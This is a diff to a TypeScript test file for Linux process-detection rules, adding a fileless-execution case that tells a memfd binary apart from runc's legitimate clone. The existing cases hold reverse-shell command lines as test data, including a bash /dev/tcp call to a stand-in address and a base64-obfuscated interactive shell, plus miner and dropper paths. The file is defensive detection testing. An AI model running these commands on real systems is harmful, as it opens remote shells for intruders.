@@ -24,6 +24,7 @@ const cases: { rule: string; hit: P[]; miss: P[] }[] = [
   { rule: 'pw-lnx-kthreadd-user-binary', hit: [{ name: 'kthreadd' }, { name: 'kworker/0:1', executable: '/var/tmp/.x/kworker' }], miss: [{ name: 'kthreadd' }, { name: 'modprobe', executable: '/usr/sbin/modprobe' }] },
   { rule: 'pw-lnx-exec-from-temp', hit: [bin('bash'), { name: 'xmrig', executable: '/dev/shm/xmrig' }], miss: [bin('go'), { name: 'main', executable: '/tmp/go-build3921/b001/exe/main' }] },
   { rule: 'pw-lnx-fileless-exec', hit: [bin('bash'), { name: 'x', executable: '/memfd:payload', executableDeleted: true }], miss: [bin('systemd'), { name: 'sshd', executable: '/usr/sbin/sshd', executableDeleted: true }] },
+  { rule: 'pw-lnx-fileless-exec', hit: [bin('bash'), { name: 'x', executable: '/memfd:x' }], miss: [bin('containerd-shim'), { name: 'runc', executable: '/memfd:runc_cloned:/proc/self/exe', executableDeleted: true }] },
   { rule: 'pw-lnx-fileless-exec', hit: [bin('bash'), { name: 'dropper', executable: '/home/a/.cache/dropper', executableDeleted: true }], miss: [bin('bash'), { name: 'dropper', executable: '/home/a/.cache/dropper' }] },
   { rule: 'pw-reverse-shell-cmdline', hit: [bin('java'), bin('bash', { commandLine: 'bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}' })], miss: [bin('make'), bin('bash', { commandLine: 'bash -c echo aGk= | base64 -d > out.txt' })] },
   { rule: 'pw-reverse-shell-cmdline', hit: [bin('cron'), bin('bash', { commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' })], miss: [bin('cron'), bin('bash', { commandLine: 'bash -c cat /dev/null' })] },
